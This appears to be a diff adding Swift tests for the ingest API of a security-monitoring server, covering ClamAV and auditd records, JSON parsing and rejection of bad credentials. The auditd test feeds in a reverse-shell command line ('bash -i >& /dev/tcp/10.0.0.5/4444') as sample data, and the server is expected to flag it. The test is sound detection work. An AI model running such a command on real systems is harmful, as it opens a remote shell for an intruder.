@@ -1,0 +1,108 @@
+import Foundation
+import HTTPTypes
+import Hummingbird
+import HummingbirdTesting
+import Testing
+import VigilIngest
+import VigilModel
+import VigilServer
+@testable import VigilStore
+
+/// The edges of a push that a mutation left unguarded, held over HTTP.
+@Suite struct PushEdgeTests {
+    func push(_ client: some TestClientProtocol, _ token: String, _ uri: String, _ body: String) async throws -> (HTTPResponse.Status, [String: Any]) {
+        try await client.execute(uri: uri, method: .post, headers: headers(token), body: ByteBuffer(string: body)) {
+            ($0.status, json($0.body))
+        }
+    }
+
+    @Test func aBodyEndingWithAPendingClamAVRecordStoresItAndRaisesTheAlert() async throws {
+        let fixture = try ServerFixture()
+        try await fixture.app().test(.router) { client in
+            let (status, reply) = try await push(client, fixture.clamavToken, "/api/v1/ingest?format=clamav&hostname=web-01",
+                                                 "/tmp/eicar.com.txt: Win.Test.EICAR_HDB-1.UNOFFICIAL FOUND\n")
+            #expect(status == .ok)
+            #expect(reply["accepted"] as? Int == 1)
+            #expect(reply["alerts_raised"] as? Int == 1)
+        }
+        #expect(try fixture.store().alerts(AlertFilter()).map(\.title) == ["EICAR test file detected"])
+    }
+
+    @Test func aBodyEndingInsideAnAuditdGroupStoresTheProcessAndRaisesTheAlert() async throws {
+        let fixture = try ServerFixture()
+        let store = try fixture.store()
+        try store.setIntegration("auditd", enabled: true, actor: "test")
+        let token = AccessToken.generate()
+        _ = try store.createToken(integration: "auditd", hash: token.hash, expiresAt: Timestamp.now() + .seconds(3600), actor: "test")
+        let body = """
+            type=SYSCALL msg=audit(1764237600.000:7): syscall=59 success=yes ppid=10 pid=11 uid=0 comm="bash" exe="/bin/bash"
+            type=EXECVE msg=audit(1764237600.000:7): argc=3 a0="bash" a1="-i" a2=">& /dev/tcp/10.0.0.5/4444 0>&1"
+
+            """
+        try await fixture.app().test(.router) { client in
+            let (status, reply) = try await push(client, token.token, "/api/v1/ingest?format=auditd&hostname=web-01", body)
+            #expect(status == .ok)
+            #expect(reply["accepted"] as? Int == 3)
+            #expect(reply["alerts_raised"] as? Int == 1)
+        }
+        #expect(try fixture.store().alerts(AlertFilter()).map(\.title) == ["Reverse shell command line"])
+    }
+
+    @Test func aJSONArrayWithEscapedQuotesStoresEveryElement() async throws {
+        let fixture = try ServerFixture()
+        try await fixture.app().test(.router) { client in
+            var (status, reply) = try await push(client, fixture.jsonToken, "/api/v1/ingest?hostname=web-01",
+                                                 #"[{"msg":"5\" pipe","n":1},{"msg":"plain","n":2}]"#)
+            #expect(status == .ok)
+            #expect(reply["accepted"] as? Int == 2)
+            #expect(reply["rejected"] as? Int == 0)
+            (status, reply) = try await push(client, fixture.jsonToken, "/api/v1/ingest?hostname=web-01",
+                                             #"[{"msg":"}]\"[{","n":3}, {"msg":"\\","n":4}]"#)
+            #expect(status == .ok)
+            #expect(reply["accepted"] as? Int == 2)
+        }
+        #expect(try fixture.store().count(.events) == 4)
+    }
+
+    @Test func aTokenOneCharacterAwayFromAValidOneIsRefused() async throws {
+        let fixture = try ServerFixture()
+        let valid = fixture.jsonToken
+        let near = String(valid.dropLast()) + (valid.last == "A" ? "B" : "A")
+        try await fixture.app().test(.router) { client in
+            let (status, reply) = try await push(client, near, "/api/v1/ingest?hostname=web-01", #"{"n":1}"#)
+            #expect(status == .unauthorized)
+            #expect((reply["error"] as? [String: Any])?["message"] as? String ?? "" != "")
+        }
+        #expect(try fixture.store().count(.events) == 0)
+    }
+
+    /// Every route of each group (push, read, admin), with no credentials, a non-bearer scheme
+    /// and an unknown key of the right shape.
+    @Test func everyRouteGroupRefusesMissingAndWrongCredentialsWith401() async throws {
+        let fixture = try ServerFixture()
+        let routes: [(HTTPRequest.Method, String)] = [
+            (.post, "/api/v1/ingest"),
+            (.get, "/api/v1/alerts"), (.get, "/api/v1/alerts/1"), (.patch, "/api/v1/alerts/1"), (.get, "/api/v1/incidents"),
+            (.get, "/api/v1/machines"), (.get, "/api/v1/integrations"),
+            (.post, "/api/v1/integrations/clamav/on"), (.post, "/api/v1/integrations/clamav/off"), (.post, "/api/v1/integrations/clamav/tokens"),
+        ]
+        let credentials: [HTTPFields] = [
+            [:],
+            [.authorization: "Basic dXNlcjpwYXNz"],
+            headers(APIKey.generate().key),
+        ]
+        try await fixture.app().test(.router) { client in
+            for (method, uri) in routes {
+                for fields in credentials {
+                    try await client.execute(uri: uri, method: method, headers: fields, body: ByteBuffer(string: #"{"status":"resolved"}"#)) { response in
+                        #expect(response.status == .unauthorized, "\(method) \(uri) with \(fields)")
+                        #expect(json(response.body)["error"] != nil, "\(method) \(uri): the refusal explains itself")
+                    }
+                }
+            }
+        }
+        let store = try fixture.store()
+        #expect(try store.count(.events) == 0)
+        #expect(try store.integrations().first { $0.name == "clamav" }?.enabled == true)
+    }
+}
